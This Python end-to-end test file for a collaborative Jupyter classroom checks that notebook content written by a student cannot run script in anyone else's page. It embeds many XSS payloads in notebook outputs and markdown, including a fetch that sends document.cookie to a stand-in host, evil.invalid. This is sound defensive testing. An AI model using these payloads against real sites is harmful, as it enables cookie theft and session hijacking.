"""Can a student who may write run anything in the instructor's page or in another student's?"""

from __future__ import annotations

import functools
import json
from base64 import b64decode
from collections.abc import Callable
from typing import Any

import pytest
from jupyter_ydoc import YNotebook
from playwright.sync_api import Dialog
from pycrdt import Map, Text

from tests.e2e.board import SHOWN, Board, boards, in_all
from tests.e2e.classmate import Classmate
from tests.e2e.conftest import INSTRUCTOR, People
from tests.e2e.lesson import code, shown, text, write
from tests.e2e.reasons import until
from tests.e2e.teacher import Teacher, writer
from tests.e2e.test_a_class import begin
from tests.hub import RunningHub
from tests.page import Refused

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

RUN = "window.ran=document.title;alert(1);fetch('http://evil.invalid/?'+document.cookie)"
IMG = f'<img src=x onerror="{RUN}">'
OUTPUTS = {
    "script in HTML": {"text/html": f"<i>still here</i><script>{RUN}</script>"},
    "handler in HTML": {"text/html": f"<i>still here</i>{IMG}"},
    "link in HTML": {"text/html": f'<a href="javascript:{RUN}">still here</a>'},
    "frame": {"text/html": f'<i>still here</i><iframe srcdoc="<script>parent.{RUN}</script>">'},
    "page of elsewhere": {"text/html": "still here<object data='http://evil.invalid/o'>"},
    "JavaScript": {"application/javascript": RUN, "text/plain": "still here"},
    "SVG": {
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><text>a</text></svg>',
        "text/plain": "still here",
    },
    "a data frame that is none": {
        "text/html": f'<table onmouseover="{RUN}" autofocus onfocus="{RUN}"><tr><td>still here</td></tr></table>'
    },
    "Markdown": {"text/markdown": f"still here {IMG} [x](javascript:{RUN})"},
    "LaTeX": {"text/latex": f"$\\href{{javascript:{RUN}}}{{still here}}$", "text/plain": "t"},
    "pictures of elsewhere": {
        "text/html": "still here <img src='//evil.invalid/p' srcset='//evil.invalid/s 2x'>"
        "<video autoplay src='http://evil.invalid/v' poster='http://evil.invalid/w'></video>"
        "<b style='background: url(http://evil.invalid/b)'>b</b><img src='/hub/static/favicon.ico'>"
    },
    "a diagram's picture": {
        "text/vnd.mermaid": "flowchart LR\n A@{ img: 'http://evil.invalid/m' }",
        "text/plain": "still here",
    },
    "widget": {
        "application/vnd.jupyter.widget-view+json": '{"model_id":"<script>"}',
        "text/plain": "still here",
    },
}
WORDS = f"""still here <script>{RUN}</script> <svg onload="{RUN}"> {IMG}

[press](javascript:{RUN.replace("(", "%28").replace(")", "%29")})
<a href="#" data-commandlinker-command="apputils:reset" data-commandlinker-args="{{}}">command</a>
![seen](http://evil.invalid/seen) ![own](own.png)

# A heading ![seen](http://evil.invalid/heading)

```mermaid
flowchart LR
  A@{{ img: "http://evil.invalid/diagram" }}
```

<style>body {{ display: none }}</style><form action="http://evil.invalid/"><input autofocus onfocus="{RUN}"></form>"""

POKE = """shown => {
  const panel = document.querySelector(shown);
  const all = panel.querySelectorAll('.jp-OutputArea-output *, .jp-RenderedMarkdown *');
  for (const node of [...all].filter(each => !each.matches('.jp-LiveClass-held'))) {
    node.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    node.focus?.();
    node.click?.();
  }
}"""
FRAMES = "n => new Promise(done => { const next = () => (n-- ? requestAnimationFrame(next) : done()); next(); })"

Edit = Callable[[YNotebook], None]


def no_notebook() -> list[Edit]:
    """What no notebook holds; the service takes none of it."""
    strange = {"id": "own", "cell_type": IMG, "source": Text("x"), "metadata": Map({})}
    return [
        lambda book: book.ycells[1]["outputs"].append(shown(text_html=IMG)),
        lambda book: book.ycells.append(IMG),
        lambda book: book.ycells.append(Map(strange)),
    ]


def into_anas(book: YNotebook) -> None:
    """An output into a cell that she ran herself, and a mark of trust on it."""
    cell: Map[Any] = book.ycells[1]
    cell["metadata"]["trusted"] = True
    cell["outputs"].append(Map(shown(text_html=f"{IMG}<i>in ana's cell</i>")))


def attack(eve: Teacher) -> None:
    """Everything a raw peer can put into a notebook, one by one."""
    for name, data in OUTPUTS.items():
        eve.add(
            f"# {name}",
            outputs=[shown(**data)],
            metadata={"trusted": True, "jupyter": {"source_hidden": False}},
            execution_count=1,
        )
    words = {**text("hostile-words", WORDS), "metadata": {"trusted": True}}
    eve.change(lambda book: book.append_cell(words))
    eve.change(into_anas)
    for edit in no_notebook():
        with pytest.raises(Refused, match="not_a_notebook"):
            eve.change(edit)
        eve.enter()


class Watched:
    """A person's page on which nothing of others may happen."""

    def __init__(self, board: Board) -> None:
        self.board = board
        self.dialogs: list[str] = []
        board.page.on("dialog", self._dialog)

    def why_not_all_there(self) -> str | None:
        """None once all that is hostile is on this page, each with what is harmless in it."""
        cells, outputs = self.board.cells(), self.board.outputs()
        if len(outputs) != len(OUTPUTS) + 3:
            return f"{self.board.name} sees {len(outputs)} cells"
        if not (cells[-1].startswith("still here") and "in ana's cell" in outputs[1]):
            return f"{self.board.name} sees {cells}, {outputs}"
        came = dict(zip(OUTPUTS, outputs[2:-1], strict=True))
        lost = {name: out for name, out in came.items() if "still" not in out}
        return f"{self.board.name} lacks {lost}" if lost else None

    def poke(self) -> None:
        """What a curious person does: move over everything, press everything but what asks before."""
        self.board.page.evaluate(POKE, SHOWN)
        self.board.page.evaluate(FRAMES, 30)

    def ran(self) -> list[str]:
        """All that did happen."""
        page = self.board.page
        frames = [frame.url for frame in page.frames if frame.evaluate("'ran' in window")]
        hosts = self.board.desk.person.foreign_hosts()
        hidden = page.evaluate("getComputedStyle(document.body).display === 'none'")
        return [*frames, *self.dialogs, *hosts, *(["hidden"] if hidden else [])]

    def check(self) -> None:
        """All came, and none of it did anything, whatever one presses."""
        until(self.why_not_all_there)
        self.poke()
        assert self.ran() == []

    def again(self) -> None:
        """The same with the page loaded anew."""
        self.board.desk.refresh()
        self.board.desk.wait_until_in_class()
        self.board.show()
        self.check()

    def show_all_the_same(self) -> None:
        """Yes to rich outputs: then it does run, so that one knows it would have been seen before."""
        self.board.show_rich()
        until(lambda: None if self.ran() else "nothing is seen of what runs")
        self.board.desk.person.contacted.discard("evil.invalid")

    def leave(self) -> None:
        """The page is left alone again."""
        self.board.page.remove_listener("dialog", self._dialog)

    def _dialog(self, dialog: Dialog) -> None:
        if dialog.type == "beforeunload":
            dialog.accept()
        else:
            self.dialogs.append(dialog.message)
            dialog.dismiss()


LOGO = b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
OWN = "img[alt=own]"


def why_not_drawn(board: Board) -> str | None:
    """None once the course's own picture is seen."""
    drawn = board.shown.locator(OWN).evaluate_all("all => all.map(one => one.naturalWidth)")
    return None if drawn == [1] else f"{board.name} sees pictures of width {drawn}"


def show_one(board: Board) -> None:
    """Ask for one picture: its host hears of that, and no other is fetched with it."""
    held = board.shown.locator(".jp-RenderedMarkdown .jp-LiveClass-held")
    count = held.count()
    held.first.press("Enter")
    contacted = board.desk.person.contacted
    until(lambda: None if "evil.invalid" in contacted else "the picture was not asked for")
    assert board.shown.locator("img[src='http://evil.invalid/seen']").count() == 1
    assert held.count() == count - 1
    contacted.discard("evil.invalid")


def open_headings(board: Board) -> None:
    """The table of contents, which renders every heading on its own."""
    board.page.locator("[data-id=table-of-contents]").click()
    board.page.locator(".jp-TableOfContents", has_text="A heading").wait_for()


def show_pictures(watched: list[Watched]) -> None:
    """The course's own are seen by all, those of elsewhere only by who asks."""
    for page in watched:
        until(functools.partial(why_not_drawn, page.board))
        open_headings(page.board)
    assert [page.ran() for page in watched] == [[] for _ in watched]
    for page in watched:
        show_one(page.board)


def keep_back(board: Board) -> None:
    """No to rich outputs, here."""
    board.bar.locator(".lc-mod-held").click()
    question = board.page.get_by_role("alertdialog")
    question.get_by_role("button", name="Keep them back").click()
    question.wait_for(state="detached")


def test_what_a_student_writes_runs_in_nobodys_page(story: People, hub: RunningHub) -> None:
    own = "from IPython.display import HTML; HTML('<i>made by ana</i>')"
    write(hub, "Hostile.ipynb", [text("t1", "Before."), code("c1", own)])
    (hub.data_dir / "courses" / "demo" / "own.png").write_bytes(LOGO)
    ana_desk, _, dan_desk = begin(story)
    ana, dan = everyone = boards(ana_desk, dan_desk)
    ana.open("Hostile")
    for board in everyone:
        board.show()
    ana.wait_for_kernel()
    ana.run(1)
    until(in_all(everyone, "why_no_output", "made by ana"), 60)
    watched = [Watched(board) for board in everyone]
    (session,) = Classmate(hub, INSTRUCTOR).live()
    with writer(hub, "eve", session) as eve:
        eve.do("AskToWrite")
        until(lambda: ana_desk.why_not_saying("asks to write"))
        ana.allow("eve")
        eve.enter()
        eve.wait_to_write()
        attack(eve)
    for page in watched:
        page.check()
        page.board.photograph("1 hostile cells")
    assert dan.holds_back()
    keep_back(dan)
    watched[1].check()
    show_pictures(watched)
    until(ana.why_not_safe)
    for page in watched:
        page.again()
        page.board.photograph("2 loaded again")
    assert '"trusted"' not in json.dumps(saved(hub, "Hostile"))
    watched[1].show_all_the_same()
    for page in watched:
        page.leave()


def saved(hub: RunningHub, name: str) -> Any:
    """The notebook in the course's folder."""
    return json.loads((hub.data_dir / "courses" / "demo" / f"{name}.ipynb").read_text())
